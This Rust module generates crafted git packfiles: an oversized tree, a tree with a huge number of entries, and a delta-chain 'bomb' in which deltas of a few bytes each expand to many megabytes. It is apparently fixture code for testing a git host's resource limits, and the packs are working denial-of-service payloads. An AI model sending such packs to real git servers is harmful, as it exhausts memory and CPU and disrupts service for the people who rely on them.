//! Packs that are small to send and costly to take.

use flate2::Compression;
use flate2::write::ZlibEncoder;
use sha1::{Digest as _, Sha1};
use std::io::Write as _;

const TREE: u8 = 2;
const BLOB: u8 = 3;
const OFFSET_DELTA: u8 = 6;

/// The blob that deltas begin with, and bytes of one copy instruction at most.
const BASE: usize = 16 << 20;
const COPY: usize = (1 << 24) - 1;

/// How many deltas are made one from the other before the next one is made from the blob again.
const CHAIN: u32 = 20;

/// One tree of this many zero bytes: git holds a tree in memory as a whole.
pub fn huge_tree(size: usize) -> Vec<u8> {
    let mut pack = header(1);
    object(&mut pack, TREE, size, None, &vec![0; size]);
    finish(pack)
}

/// One tree of this many entries, in order and well formed, for a git that looks at each of them.
pub fn wide_tree(entries: u32) -> Vec<u8> {
    let mut tree = Vec::new();
    for number in 0..entries {
        tree.extend(format!("100644 {number:08}\0").bytes());
        tree.extend([0x11; 20]);
    }
    let mut pack = header(1);
    object(&mut pack, TREE, tree.len(), None, &tree);
    finish(pack)
}

/// A blob of 16 MiB from a few kilobytes, and deltas of a few bytes, each of which becomes so many times as much. All
/// bases are in the pack, in chains. `ballast` is the size of a further blob that nothing makes smaller.
pub fn delta_bomb(deltas: u32, copies: usize, ballast: usize) -> Vec<u8> {
    let result = copies * COPY + 4;
    let mut pack = header(deltas + 2);
    object(&mut pack, BLOB, ballast, None, &noise(ballast));
    let blob_at = pack.len();
    object(&mut pack, BLOB, BASE, None, &vec![0; BASE]);
    let mut last_at = blob_at;
    for number in 0..deltas {
        let (base_at, base) = if number % CHAIN == 0 { (blob_at, BASE) } else { (last_at, result) };
        let mut delta = Vec::new();
        varint(&mut delta, base);
        varint(&mut delta, result);
        for _ in 0..copies {
            delta.extend([0x80 | 0x70, 0xff, 0xff, 0xff]);
        }
        // Four bytes of its own, so that no two results are the same.
        delta.push(4);
        delta.extend(number.to_be_bytes());
        last_at = pack.len();
        object(&mut pack, OFFSET_DELTA, delta.len(), Some(last_at - base_at), &delta);
    }
    finish(pack)
}

/// Bytes that nothing makes smaller, the same in every run.
pub fn noise(length: usize) -> Vec<u8> {
    let mut state = 1u64;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 56) as u8
    };
    (0..length).map(|_| next()).collect()
}

fn header(objects: u32) -> Vec<u8> {
    [b"PACK".as_slice(), &2_u32.to_be_bytes(), &objects.to_be_bytes()].concat()
}

fn object(pack: &mut Vec<u8>, kind: u8, size: usize, back: Option<usize>, content: &[u8]) {
    let mut rest = size >> 4;
    let first = (kind << 4) | (size & 15) as u8;
    pack.push(if rest > 0 { first | 0x80 } else { first });
    while rest > 0 {
        let byte = (rest & 0x7f) as u8;
        rest >>= 7;
        pack.push(if rest > 0 { byte | 0x80 } else { byte });
    }
    if let Some(back) = back {
        offset(pack, back);
    }
    let mut encoder = ZlibEncoder::new(&mut *pack, Compression::best());
    encoder.write_all(content).and_then(|()| encoder.finish().map(drop)).expect("memory takes everything");
}

/// The distance to the base, in git's own encoding: seven bits at a time, each longer form one further.
fn offset(pack: &mut Vec<u8>, mut back: usize) {
    let mut bytes = vec![(back & 0x7f) as u8];
    while back >= 0x80 {
        back = (back >> 7) - 1;
        bytes.push(0x80 | (back & 0x7f) as u8);
    }
    pack.extend(bytes.iter().rev());
}

fn varint(out: &mut Vec<u8>, mut size: usize) {
    while size >= 0x80 {
        out.push(0x80 | (size & 0x7f) as u8);
        size >>= 7;
    }
    out.push(size as u8);
}

/// Adds the trailer: git looks at it before it resolves deltas.
fn finish(mut pack: Vec<u8>) -> Vec<u8> {
    let sum = Sha1::digest(&pack);
    pack.extend(sum);
    pack
}
